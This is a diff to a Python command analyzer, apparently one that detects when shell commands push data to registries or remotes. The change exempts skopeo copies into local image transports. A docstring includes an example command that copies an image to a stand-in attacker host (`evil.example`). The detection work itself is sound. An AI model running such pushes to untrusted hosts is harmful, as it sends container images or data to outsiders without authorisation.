@@ -6075,6 +6075,17 @@ def _nuget_source(name: str, cwd: str) -> str:
 _RCLONE_REMOTE = re.compile(r"^([A-Za-z0-9_][A-Za-z0-9_. -]*):(?!//)")
 
 
+# Where skopeo and its kin copy an image on this machine (containers-transports(5))
+_LOCAL_IMAGE_TRANSPORTS = (
+    "oci:",
+    "oci-archive:",
+    "dir:",
+    "docker-archive:",
+    "docker-daemon:",
+    "containers-storage:",
+)
+
+
 def _push(entry: Program, args: list[str], state: _State) -> None:
     """`docker push ghcr.io/me/app`, `skopeo copy A docker://evil.example/b`, `rclone copy . backup:bucket`:
     the program sends to the registry or remote its last operand names (a configured rclone remote is a
@@ -6082,8 +6093,8 @@ def _push(entry: Program, args: list[str], state: _State) -> None:
     words = _operands(args, entry.options)  # (`--transfers 16`: an option's value, no operand)
     if words[:1] in (["image"], ["container"], ["artifact"]):
         words = words[1:]
-    if len(words) < 2 or words[0] not in entry.pushes:
-        return
+    if len(words) < 2 or words[0] not in entry.pushes or words[-1].startswith(_LOCAL_IMAGE_TRANSPORTS):
+        return  # (`skopeo copy docker://REF oci:app`: the image is copied onto this machine)
     # the last operand that names a registry host (`oras push REF FILE...` names it first), else the last
     named = [
         w
